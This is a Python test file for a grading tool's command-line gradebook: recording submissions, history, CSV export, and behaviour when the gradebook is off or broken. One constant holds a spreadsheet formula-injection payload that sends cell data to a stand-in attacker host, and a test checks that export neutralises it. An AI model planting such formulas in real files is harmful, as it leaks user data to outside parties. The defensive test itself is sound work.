"""The gradebook through the CLI: submit records, history shows, export writes;
turning it off records nothing; a gradebook that cannot take an attempt
never costs the result."""

from __future__ import annotations

import csv
import getpass
import hashlib
import json
import shutil
import sqlite3
from datetime import datetime
from importlib import metadata

import pytest
from gradebook_helpers import rows
from judge_cli import GRADEBOOK_ENV, REPO_ROOT, environment, run

ACCEPTED = REPO_ROOT / "solutions" / "cell" / "accepted" / "reference.py"
WRONG = REPO_ROOT / "solutions" / "cell" / "wrong" / "no_b_hh.py"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def utc(stamp: str) -> datetime:
    assert stamp.endswith("Z"), stamp
    return datetime.fromisoformat(stamp[:-1] + "+00:00")


def test_submit_records_the_attempt_as_the_json_document_says(cli, tmp_path):
    book = tmp_path / "book.sqlite3"
    key = tmp_path / "key"
    key.write_text("a grader's secret\n")
    res = cli("submit", "cell", WRONG, "--format", "json", "--view", "staff", "--seed", "7",
              "--key-file", key, "--gradebook", book)
    assert res.code == 1 and res.err == "", res
    doc = res.json()
    [row] = rows(book)
    assert json.loads(row["result"]) == doc  # the whole staff document
    assert row["candidate"] == getpass.getuser()
    assert (row["problem"], row["problem_digest"], row["submission"]) == (
        doc["problem"], doc["problem_digest"], doc["submission"])
    assert (row["verdict"], row["score"], row["max_score"]) == (
        doc["verdict"], doc["score"], doc["max_score"])
    assert (row["seed"], row["key_fingerprint"], row["mode"]) == (7, doc["key"], "submit")
    assert doc["key"] and doc["verdict"] == "wrong_answer" and doc["max_score"] == 100
    assert row["submission_sha256"] == sha256(WRONG)
    assert row["judge_version"] == metadata.version("lstm-judge")
    started, ended = utc(row["started_at"]), utc(row["ended_at"])
    assert 0 <= (ended - started).total_seconds() < 120
    assert (ended - started).total_seconds() >= doc["time_s"] - 0.01


def test_the_candidate_view_is_printed_and_the_staff_view_recorded(cli, tmp_path):
    book = tmp_path / "book.sqlite3"
    res = cli("submit", "cell", WRONG, "--format", "json", "--candidate", "ada",
              env=environment(**{GRADEBOOK_ENV: str(book)}))
    assert res.code == 1, res
    [row] = rows(book)
    kept = json.loads(row["result"])
    assert res.json()["view"] == "candidate" and kept["view"] == "staff"
    assert row["candidate"] == "ada"
    assert any("calls" in t for t in kept["tests"] if t["visibility"] == "hidden")


def test_test_runs_and_switched_off_gradebooks_record_nothing(cli, tmp_path):
    book = tmp_path / "book.sqlite3"
    on = environment(**{GRADEBOOK_ENV: str(book)})
    assert cli("test", "cell", ACCEPTED, env=on).code == 0
    assert cli("submit", "cell", ACCEPTED, "--no-gradebook", env=on).code == 0
    assert cli("submit", "cell", ACCEPTED, "--no-gradebook", "--gradebook", book).code == 0
    assert cli("submit", "cell", ACCEPTED, env=environment(**{GRADEBOOK_ENV: "off"})).code == 0
    assert not book.exists()
    assert cli("submit", "cell", ACCEPTED, env=on).code == 0  # the control: on, it records
    assert len(rows(book)) == 1


def test_self_study_on_your_own_data_is_not_recorded(cli, tmp_path):
    book = tmp_path / "book.sqlite3"
    data = tmp_path / "series.csv"
    data.write_text("value\n" + "\n".join(f"{20 + (i % 11) * 0.7:.2f}" for i in range(200)) + "\n")
    forecast = REPO_ROOT / "solutions" / "forecast" / "accepted" / "reference.py"
    res = cli("submit", "forecast", forecast, "--data", data, "--format", "json",
              "--gradebook", book)
    assert res.json()["mode"] == "study", res
    assert not book.exists()


def test_by_default_it_lives_in_the_users_data_directory(cli, tmp_path):
    env = environment(XDG_DATA_HOME=str(tmp_path / "data"), HOME=str(tmp_path / "home"))
    del env[GRADEBOOK_ENV]
    assert cli("submit", "cell", ACCEPTED, env=env).code == 0
    del env["XDG_DATA_HOME"]
    assert cli("submit", "cell", ACCEPTED, env=env).code == 0
    assert len(rows(tmp_path / "data" / "lstm-judge" / "gradebook.sqlite3")) == 1
    home = tmp_path / "home" / ".local" / "share"
    assert len(rows(home / "lstm-judge" / "gradebook.sqlite3")) == 1


@pytest.mark.parametrize("breakage", ["under a file", "corrupt", "newer"])
def test_a_gradebook_that_cannot_take_it_warns_and_the_result_stands(cli, tmp_path, breakage):
    book = tmp_path / "book.sqlite3"
    if breakage == "under a file":
        (tmp_path / "file").write_text("")
        book = tmp_path / "file" / "book.sqlite3"
        why = "cannot open (Not a directory)"
    elif breakage == "corrupt":
        book.write_bytes(b"\x00garbage" * 1000)
        why = "cannot open (file is not a database)"
    else:
        conn = sqlite3.connect(book)
        conn.execute("PRAGMA user_version = 42")
        conn.close()
        why = "schema version 42 is newer than this judge knows"
    before = book.read_bytes() if book.exists() else None
    res = cli("submit", "cell", ACCEPTED, "--format", "json", "--gradebook", book)
    assert res.code == 0, res  # the verdict's exit code
    assert res.json()["verdict"] == "accepted"
    [line] = res.err.splitlines()
    warning = f"lstm-judge: warning: attempt not recorded in the gradebook: {book}:"
    assert line.startswith(warning), line
    assert why in line, line
    assert (book.read_bytes() if book.exists() else None) == before
    if breakage != "under a file":
        shown = cli("history", "--gradebook", book)
        assert shown.code == 2 and why in shown.err and len(shown.err.splitlines()) == 1, shown


def test_a_judge_error_is_recorded_too(cli, tmp_path):
    copy = tmp_path / "problems" / "cell"
    shutil.copytree(REPO_ROOT / "problems" / "cell", copy)
    tests = copy / "tests" / "test_cell.py"
    tests.write_text("import no_such_module_for_the_judge\n" + tests.read_text())
    book = tmp_path / "book.sqlite3"
    res = cli("submit", copy, ACCEPTED, "--gradebook", book)
    assert res.code == 3 and len(res.err.splitlines()) == 1, res
    [row] = rows(book)
    assert row["verdict"] == "judge_error" and row["score"] == 0
    assert "no_such_module_for_the_judge" in json.loads(row["result"])["message"]


# --------------------------------------------------------------------------- history, export


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    """ada: wrong, then accepted at cell; bob: accepted; a formula-named candidate."""
    path = tmp_path_factory.mktemp("book") / "book.sqlite3"
    for sub, who in ((WRONG, "ada"), (ACCEPTED, "ada"), (ACCEPTED, "bob"), (WRONG, INJECTION)):
        res = run("submit", "cell", sub, "--candidate", who, "--gradebook", path)
        assert res.code in (0, 1) and res.err == "", res
    return path


def test_history_shows_attempts_and_the_best_score(cli, book):
    res = cli("history", "--candidate", "ada", "--gradebook", book)
    assert res.code == 0, res
    lines = res.out.splitlines()
    first = next(i for i, line in enumerate(lines) if line.startswith("time"))
    assert lines[first].split() == ["time", "problem", "verdict", "score", "submission"]
    assert [line.split()[2:6] for line in lines[first + 1:first + 3]] == [
        ["cell", "wrong_answer", "15/100", sha256(WRONG)[:12]],
        ["cell", "accepted", "100/100", sha256(ACCEPTED)[:12]]]
    best = lines[lines.index("best score per problem") + 3]
    assert best.split()[:4] == ["cell", "100/100", "accepted", "2"], res.out
    assert "bob" not in res.out


def test_history_as_json(cli, book):
    res = cli("history", "problems/cell", "--candidate", "bob", "--format", "json",
              env=environment(**{GRADEBOOK_ENV: str(book)}))
    assert res.code == 0, res
    doc = res.json()
    assert (doc["candidate"], doc["problem"], doc["gradebook"]) == ("bob", "cell", str(book))
    [one] = doc["attempts"]
    assert (one["verdict"], one["score"], one["submission_sha256"]) == (
        "accepted", 100, sha256(ACCEPTED))
    assert "result" not in one  # the staff view stays in the gradebook
    assert doc["best"] == [{"problem": "cell", "score": 100, "max_score": 100,
                            "verdict": "accepted", "attempt": one["id"],
                            "started_at": one["started_at"], "attempts": 1}]
    none = cli("history", "bptt", "--candidate", "bob", "--gradebook", book)
    assert none.code == 0 and none.out.startswith("no attempts recorded for bob at bptt")


def test_export_writes_one_guarded_row_per_attempt(cli, book, tmp_path):
    out = tmp_path / "grades.csv"
    res = cli("export", "--out", out, "--gradebook", book)
    assert res.code == 0 and res.out.strip() == f"wrote 4 attempts to {out}", res
    with open(out, newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert [r["candidate"] for r in table] == ["ada", "ada", "bob", "'" + INJECTION]
    assert [r["verdict"] for r in table] == ["wrong_answer", "accepted", "accepted",
                                             "wrong_answer"]
    assert table[0]["submission_sha256"] == sha256(WRONG)
    assert list(tmp_path.iterdir()) == [out]  # no temporary file left


def test_reading_needs_a_gradebook_that_is_there(cli, tmp_path):
    off = cli("history", env=environment(**{GRADEBOOK_ENV: "off"}))
    assert off.code == 2 and "it is off" in off.err, off
    missing = tmp_path / "none.sqlite3"
    for args in (("history",), ("export", "--out", tmp_path / "x.csv")):
        res = cli(*args, "--gradebook", missing)
        assert res.code == 2 and "no gradebook here" in res.err, res
    assert list(tmp_path.iterdir()) == []


def test_export_into_a_missing_folder_is_bad_input(cli, book, tmp_path):
    res = cli("export", "--out", tmp_path / "no" / "grades.csv", "--gradebook", book)
    assert res.code == 2 and "cannot write" in res.err and len(res.err.splitlines()) == 1, res
